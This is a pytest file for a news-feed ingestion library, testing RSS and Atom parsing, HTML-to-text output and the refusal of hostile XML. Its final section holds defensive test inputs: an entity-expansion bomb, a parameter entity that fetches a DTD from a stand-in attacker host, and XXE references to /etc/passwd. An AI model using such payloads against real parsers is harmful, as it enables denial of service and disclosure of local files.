"""RSS/Atom: exact fields of each entry, HTML content as plain paragraphs, and
hostile XML (entity bombs, XXE, external DTDs, paths and URLs) refused safely."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from samestory.article import Article
from samestory.ingest import Limits, iter_input, read_bytes
from samestory.ingest.feeds import html_to_text

from _support import read_clean_fixture, split

DATA = Path(__file__).resolve().parents[1] / "data"
BAD = DATA / "bad"

BOMB_MESSAGE = "unsafe XML: entity declarations are not allowed (possible XML bomb)"



def rss(*items: str, head: str = "") -> bytes:
    body = "".join(f"<item>{item}</item>" for item in items)
    return (
        f'<?xml version="1.0" encoding="utf-8"?>{head}<rss version="2.0"><channel>'
        f"<title>Harbour Radio</title><link>https://harbourradio.example/</link>{body}</channel></rss>"
    ).encode()


@pytest.fixture(scope="module")
def rss_articles() -> list[Article]:
    return read_clean_fixture("feed.rss")


@pytest.fixture(scope="module")
def atom_articles() -> list[Article]:
    return read_clean_fixture("feed.atom")


# --- RSS ----------------------------------------------------------------------------


def test_rss_entry_fields(rss_articles):
    assert [(a.id, a.title, a.date, a.url, a.byline) for a in rss_articles] == [
        (
            "pac-2024-0314-bridge",
            "Alder Bay bridge reopens to traffic after six months of repairs",
            "2024-03-14T08:30:00+00:00",
            "https://www.portaldercourier.example/news/2024/03/14/alder-bay-bridge-reopens",
            "Jonas Vik",
        ),
        (
            rss_articles[1].id,  # no guid: derived from the content, checked below
            "Harbour office extends opening hours for boat permits",
            "2024-04-02T14:05:00+00:00",
            "https://www.portaldercourier.example/news/2024/04/02/harbour-permits",
            None,
        ),
        (
            "https://www.portaldercourier.example/news/2024/05/17/night-buses",
            "Night buses return to the eastern suburbs",
            "2024-05-17T22:10:00+02:00",
            "https://www.portaldercourier.example/news/2024/05/17/night-buses",
            "Lea Sørensen",  # from "newsdesk@... (Lea Sørensen)"
        ),
    ]
    assert all(a.source == "Port Alder Courier" and a.lang == "en" for a in rss_articles)
    assert len(rss_articles[1].id) == 16
    assert rss_articles[0].origin == f"{DATA / 'feed.rss'}:entry 1"


def test_rss_content_is_preferred_and_becomes_plain_paragraphs(rss_articles):
    lines = rss_articles[0].text.split("\n")
    assert lines == [
        "The Alder Bay bridge reopened to cars and buses on Thursday morning, six months after engineers closed it "
        "when a routine inspection found corrosion in two of its steel support cables.",
        "About 40 vehicles were waiting at the eastern approach when crews removed the last barriers shortly after "
        "6 a.m. The regional transport authority said the repairs, which included replacing both cables and "
        "resurfacing the deck, cost 18.2 million dollars, slightly under the original estimate.",
        "\u201cWe asked a lot of commuters to be patient, and they were,\u201d said Marta Ilves, the authority\u2019s chief engineer.",
        "\u201cThe bridge is now in better shape than at any point in the last twenty years.\u201d",
        "Weight limits for heavy goods vehicles will stay in place until the end of April while sensors installed "
        "during the work gather data on how the new cables behave under load.",
    ]


def test_rss_summaries_plain_and_escaped_html(rss_articles):
    assert rss_articles[1].text.startswith("The harbour office on Quay Street will stay open until 7 p.m.")
    assert rss_articles[2].text == (
        "Night buses will run again between the city centre and the eastern suburbs from June, the transport authority said.\n"
        "The service was cut in 2020 when passenger numbers fell."
    )


# --- Atom -----------------------------------------------------------------------------


def test_atom_entry_fields(atom_articles):
    assert [(a.id, a.title, a.date, a.url, a.lang, a.byline) for a in atom_articles] == [
        (
            "tag:veldengazette.example,2024:77120",
            "Library network to open on Sundays from next month",
            "2024-03-15T10:00:00+01:00",  # published, not updated
            "https://veldengazette.example/local/library-sunday-hours",
            "en",
            "Anna Lind",
        ),
        (
            "tag:veldengazette.example,2024:78004",
            "Hailstorm damages apple orchards across the Velden valley",  # type="html" title, tags gone
            "2024-05-02T17:45:00+02:00",  # only updated given
            "https://veldengazette.example/region/hailstorm-orchards",
            "en",
            None,
        ),
        (
            "tag:veldengazette.example,2024:78110",
            "Neue Radwege entlang des Velden-Kanals",
            "2024-05-03T06:15:00+00:00",
            "https://veldengazette.example/de/radwege-kanal",
            "de",  # the entry's xml:lang="de-AT" beats the feed's "en"
            None,
        ),
    ]
    assert all(a.source == "Velden Gazette" for a in atom_articles)


def test_atom_html_and_xhtml_content(atom_articles):
    assert atom_articles[0].text.split("\n")[1].startswith("The branches will open from 11 a.m. to 4 p.m.")
    assert atom_articles[1].text.split("\n") == [
        "A hailstorm that swept through the Velden valley on Wednesday afternoon damaged fruit in roughly a third "
        "of the region's apple orchards, growers' associations said on Thursday.",
        "Hailstones the size of marbles fell for about twenty minutes around the villages of Lindholm and Eskerud.",
    ]
    assert atom_articles[2].text.startswith("Entlang des Velden-Kanals entstehen")


# --- entries and feeds that fail ------------------------------------------------------


def test_entry_without_text_is_one_error_and_the_others_are_read():
    data = rss(
        "<title>First</title><description>Ferry timetable changes on Monday.</description>",
        "<title>Photo gallery: regatta day</title><link>https://harbourradio.example/gallery</link>",
        "<title>Third</title><description>Harbour lights repaired.</description>",
    )
    articles, errors = split(read_bytes(data, "radio.rss"))
    assert [a.title for a in articles] == ["First", "Third"]
    assert [str(e) for e in errors] == [
        "radio.rss:entry 2: feed entry 'Photo gallery: regatta day' has no text (no content or summary)"
    ]
    assert articles[0].source == "Harbour Radio"


def test_feed_with_xml_errors_but_entries_is_read():
    data = rss("<title>Fish&nbsp;market</title><description>Stalls move to Pier&nbsp;4 in September.</description>")
    articles, errors = split(read_bytes(data, "sloppy.rss"))
    assert errors == []
    assert articles[0].title == "Fish market"
    assert articles[0].text == "Stalls move to Pier 4 in September."  # no-break spaces are spaces in plain text


def test_not_a_feed_is_one_error_with_the_reason():
    _, errors = split(read_bytes(b"<?xml version='1.0'?>\n<rss version='2.0'><channel><title>Cut", "cut.rss"))
    assert [str(e) for e in errors] == ["cut.rss: not a valid RSS or Atom feed (no element found at line 2, column 38)"]
    _, errors = split(read_bytes(b"<?xml version='1.0'?><catalog><book>Tides</book></catalog>", "books.xml"))
    assert [e.message for e in errors] == ["not an RSS or Atom feed (no channel or feed element)"]


def test_feed_over_the_document_limit():
    data = rss("<title>Long</title><description>" + "word " * 500 + "</description>")
    _, errors = split(read_bytes(data, "long.rss", limits=Limits(max_document_bytes=1000)))
    assert len(errors) == 1 and errors[0].message.startswith("too large")


def test_full_page_content_goes_through_trafilatura():
    page = (
        "<html><body><nav><a href='/'>Home</a> <a href='/news'>News</a> <a href='/shop'>Shop</a></nav>"
        "<article><h1>Pier lights restored</h1>"
        + "".join(
            f"<p>Paragraph {i}: the harbour board said the restored lamps on the north pier use a fifth of the power of the old ones.</p>"
            for i in range(5)
        )
        + "</article><footer>Subscribe to our newsletter for more harbour news</footer></body></html>"
    )
    data = rss(f"<title>Pier lights restored</title><description><![CDATA[{page}]]></description>")
    articles, errors = split(read_bytes(data, "page.rss"))
    assert errors == []
    assert "Paragraph 4: the harbour board" in articles[0].text
    assert "Subscribe" not in articles[0].text and "Shop" not in articles[0].text


def test_html_to_text_keeps_paragraphs_and_drops_markup():
    html = (
        "<p>First  paragraph,\n   wrapped in the source.</p>"
        "<script>track()</script><style>p{}</style>"
        "<ul><li>one</li><li>two <b>bold</b></li></ul>Trailing<br>line &amp; entity"
    )
    assert html_to_text(html) == "First paragraph, wrapped in the source.\none\ntwo bold\nTrailing\nline & entity"
    assert html_to_text("a\x00b\x0c<p>c</p>") == "ab\nc"
    assert html_to_text("") == ""


# --- hostile XML -----------------------------------------------------------------------


def test_billion_laughs_is_refused_quickly():
    start = time.monotonic()
    _, errors = split(iter_input(BAD / "bomb.xml"))
    assert time.monotonic() - start < 5
    assert [str(e) for e in errors] == [f"{BAD / 'bomb.xml'}: {BOMB_MESSAGE}"]


def test_xxe_is_refused_and_nothing_is_read_from_disk():
    articles, errors = split(iter_input(BAD / "xxe.xml"))
    assert articles == []
    assert [e.message for e in errors] == [
        "unsafe XML: external entities are not allowed (entity 'secret' refers to 'file:///etc/passwd'; possible XXE)"
    ]


@pytest.mark.parametrize(
    "head, message",
    [
        # quadratic blowup: one big entity, referenced many times
        ('<!DOCTYPE rss [<!ENTITY a "' + "x" * 1000 + '">]>', BOMB_MESSAGE),
        ('<!DOCTYPE rss [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]>', "unsafe XML: external entities are not allowed"),
        (
            '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">',
            "unsafe XML: external DTDs and entities are not allowed",
        ),
    ],
    ids=["quadratic-blowup", "parameter-entity", "external-dtd"],
)
def test_unsafe_doctypes_are_refused(head, message):
    data = rss("<title>t</title><description>&a;&a;&a;</description>", head=head)
    articles, errors = split(read_bytes(data, "evil.rss"))
    assert articles == [] and len(errors) == 1
    assert errors[0].message.startswith(message)


def test_bomb_in_utf16_and_behind_an_encoding_expat_cannot_read():
    bomb = (BAD / "bomb.xml").read_text("utf-8")
    utf16 = bomb.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    unknown = bomb.replace('encoding="UTF-8"', 'encoding="x-no-such-charset"').encode()
    for data in (utf16, unknown):
        _, errors = split(read_bytes(data, "bomb.xml", format="feed"))
        assert [e.message for e in errors] == [BOMB_MESSAGE]


def test_a_plain_doctype_is_fine():
    data = rss("<title>t</title><description>Calm seas.</description>", head="<!DOCTYPE rss>")
    articles, errors = split(read_bytes(data, "doctype.rss"))
    assert errors == [] and articles[0].text == "Calm seas."


def test_bytes_naming_a_file_or_url_are_never_opened(monkeypatch):
    import urllib.request

    import feedparser.http

    def no_network(*args, **kwargs):
        raise AssertionError("feedparser tried to fetch a URL")

    monkeypatch.setattr(feedparser.http, "get", no_network)
    monkeypatch.setattr(urllib.request, "urlopen", no_network)
    for data in (str(DATA / "feed.rss").encode(), b"/etc/passwd", b"https://attacker.example/feed.xml", b"file:///etc/passwd"):
        articles, errors = split(read_bytes(data, "upload", format="feed"))
        assert articles == [] and len(errors) == 1, data


def test_content_without_text_falls_back_to_the_summary():
    data = rss(
        "<title>Regatta</title><description>Forty boats sailed in the annual harbour regatta.</description>"
        '<content:encoded xmlns:content="http://purl.org/rss/1.0/modules/content/"><![CDATA[<img src="regatta.jpg">]]></content:encoded>'
    )
    articles, errors = split(read_bytes(data, "regatta.rss"))
    assert errors == [] and articles[0].text == "Forty boats sailed in the annual harbour regatta."
